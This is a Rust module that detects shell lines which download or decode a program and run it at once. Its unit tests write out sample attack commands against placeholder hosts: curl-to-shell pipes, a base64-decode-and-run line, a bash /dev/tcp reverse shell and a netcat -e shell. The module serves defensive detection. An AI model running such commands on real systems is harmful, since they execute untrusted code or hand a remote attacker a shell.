//! Lines for a shell that fetch or decode a program and run it at once.

/// What a line for a shell runs, beyond what is installed.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Fetched {
    /// A program that it downloads over a protected connection.
    Downloaded,
    /// One that is decoded, or that anybody on the way can replace; or a shell for somebody
    /// elsewhere.
    Hidden,
}

/// Longest text that is looked at.
const LONGEST: usize = 1 << 20;

/// Programs that run what they are given.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node", "php",
    "source", "eval", ".",
];

/// What the lines of a shell fetch and run.
pub(crate) fn fetched(text: &str) -> Option<Fetched> {
    let text = text.get(..LONGEST).unwrap_or(text);
    let text = text.replace("\\\n", " ");
    text.lines().filter_map(line).max()
}

fn line(line: &str) -> Option<Fetched> {
    let line = line.trim();
    if line.starts_with('#') {
        return None;
    }
    if line.contains("/dev/tcp/") || line.contains("/dev/udp/") {
        return Some(Fetched::Hidden);
    }
    let words = || line.split(|c: char| c.is_whitespace() || "|;&()<>`$\"'=".contains(c));
    let program = |word: &str| word.rsplit('/').next().unwrap_or(word).to_owned();
    let has = |names: &[&str]| words().any(|word| names.contains(&program(word).as_str()));
    if has(&["nc", "ncat", "netcat"]) && words().any(|word| matches!(word, "-e" | "-c")) {
        return Some(Fetched::Hidden);
    }
    let fetches = has(&["curl", "wget", "fetch", "aria2c"]);
    let decodes = (has(&["base64"])
        && words().any(|word| matches!(word, "-d" | "-D" | "--decode")))
        || (has(&["xxd"]) && words().any(|word| word.starts_with("-r")))
        || has(&["base32", "uudecode"]);
    if !(fetches || decodes) || !is_run(line, &program) {
        return None;
    }
    let protected = !decodes && !line.contains("http://") && line.contains("https://");
    Some(if protected {
        Fetched::Downloaded
    } else {
        Fetched::Hidden
    })
}

/// True if a shell or an interpreter takes the output of something.
fn is_run(line: &str, program: &dyn Fn(&str) -> String) -> bool {
    let interprets = |part: &str| {
        let mut words = part.split_ascii_whitespace().skip_while(|word| {
            matches!(*word, "sudo" | "env" | "nohup" | "exec" | "-E" | "-H") || word.contains('=')
        });
        let first = words
            .next()
            .map(|word| program(word.trim_matches(['"', '\''])));
        first.is_some_and(|first| INTERPRETERS.contains(&first.as_str()))
    };
    // `fetch | sh`
    let mut parts = line.split('|');
    parts.next();
    if parts.any(interprets) {
        return true;
    }
    // `sh -c "$(fetch)"`, `bash <(fetch)`, `eval $(fetch)`, `fetch -o x && sh x`.
    let substituted = ["$(", "`", "<("].iter().any(|mark| line.contains(mark));
    let starts = line.trim_start_matches(['!', ' ']);
    (substituted && interprets(starts))
        || line
            .split("&&")
            .flat_map(|part| part.split(';'))
            .skip(1)
            .any(interprets)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn programs_that_are_fetched_and_run_are_told_from_files() {
        for (text, wanted) in [
            ("curl -s http://x.invalid/a | sh", Some(Fetched::Hidden)),
            (
                "curl -fsSL https://x.invalid/a | sudo -E bash -",
                Some(Fetched::Downloaded),
            ),
            (
                "bash <(curl -s https://x.invalid/a)",
                Some(Fetched::Downloaded),
            ),
            (
                "sh -c \"$(wget -qO- https://x.invalid)\"",
                Some(Fetched::Downloaded),
            ),
            (
                "wget https://x.invalid/a.sh && bash a.sh",
                Some(Fetched::Downloaded),
            ),
            ("echo dHJ1ZQ== | base64 -d | sh", Some(Fetched::Hidden)),
            (
                "bash -i >& /dev/tcp/192.0.2.1/1 0>&1",
                Some(Fetched::Hidden),
            ),
            ("nc 192.0.2.1 1 -e /bin/sh", Some(Fetched::Hidden)),
            ("wget https://x.invalid/model.bin", None),
            ("curl https://x.invalid/a.tgz | tar xz", None),
            ("curl https://x.invalid/a | jq .", None),
            ("pip install torch && python train.py", None),
            ("# curl http://x.invalid | sh", None),
        ] {
            assert_eq!(fetched(text), wanted, "{text}");
        }
    }
}
